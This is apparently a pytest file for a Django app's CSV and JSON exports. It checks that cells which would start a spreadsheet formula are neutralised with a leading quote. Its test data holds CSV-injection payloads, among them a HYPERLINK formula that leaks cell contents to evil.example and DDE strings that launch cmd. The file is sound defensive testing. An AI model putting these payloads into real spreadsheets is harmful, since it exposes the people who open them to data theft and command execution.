"""CSV exports never hand a spreadsheet a formula: cells that would start one get a
leading single quote (OWASP's CSV injection advice); JSON keeps the text as it is."""

import csv
import io
import json

import pytest

from recommendations.csv_cells import neutralise, restore
from tests import factories as f

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def download(client, url) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_start_a_formula_is_quoted(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Abolish the death penalty.", "", "'quoted already", "3 - 2", "a=b", 5, -5, None]
)
def test_ordinary_cells_are_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [*DANGEROUS, "'=1+1", "''+x", "'plain", "plain", ""])
def test_restoring_gives_back_every_value(value):
    assert restore(neutralise(value)) == value


def test_the_recommendation_export_quotes_formula_cells(client):
    f.recommendation(text=DANGEROUS[0], response_note=DANGEROUS[3], paragraph="26.1")

    text = download(client, "/recommendations/export.csv")

    row = next(csv.DictReader(io.StringIO(text)))
    assert row["text"] == "'" + DANGEROUS[0]
    assert row["response_note"] == "'" + DANGEROUS[3]
    assert all(not cell.startswith(tuple("=+-@\t\r")) for cell in row.values())


def test_the_commitment_and_jurisdiction_exports_quote_formula_cells(client):
    place = f.jurisdiction(name="=cmd|' /C calc'!A0", slug="formula-town")
    f.commitment(jurisdiction=place, title="+SUM(1,2)", summary="-1+1")

    for url in ("/commitments/export.csv", "/jurisdictions/export.csv"):
        rows = list(csv.reader(io.StringIO(download(client, url))))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells, url
        assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))], url
        assert "'+SUM(1,2)" in cells or "'=cmd|' /C calc'!A0" in cells


def test_json_exports_keep_the_text_unchanged(client):
    f.recommendation(text=DANGEROUS[0])

    rows = json.loads(download(client, "/recommendations/export.json"))

    assert rows[0]["text"] == DANGEROUS[0]
